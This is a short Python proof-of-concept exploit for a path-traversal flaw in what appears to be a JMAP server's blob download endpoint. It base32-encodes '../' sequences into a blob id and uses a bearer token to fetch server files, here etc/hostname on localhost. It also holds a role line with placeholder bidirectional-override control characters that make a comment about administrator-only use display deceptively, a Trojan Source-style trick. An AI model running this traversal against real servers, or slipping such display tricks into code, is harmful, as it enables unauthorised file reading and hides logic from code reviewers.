#!/usr/bin/env python3
# The blob id is joined to the store path without a check.
import base64
import json
import urllib.request

BASE = "http://127.0.0.1:8080"
DEPTH = 6

def blob_id(path):
    """Encode a relative path the way the server encodes a blob id."""
    raw = b"../" * DEPTH + path.encode()
    return base64.b32encode(raw).decode().rstrip("=").lower()

def download(session, path):
    url = f"{BASE}/jmap/download/{session['accountId']}/{blob_id(path)}"
    req = urllib.request.Request(url + "/x?accept=text/plain")
    req.add_header("Authorization", "Bearer " + session["token"])
    with urllib.request.urlopen(req, timeout=10) as answer:
        return answer.read()

def main():
    session = json.load(open("session.json"))
    role = "user{RLO} {LRI}" # only an administrator may {PDI}run this
    print("role:", role)
    print(download(session, "etc/hostname").decode())

if __name__ == "__main__":
    main()
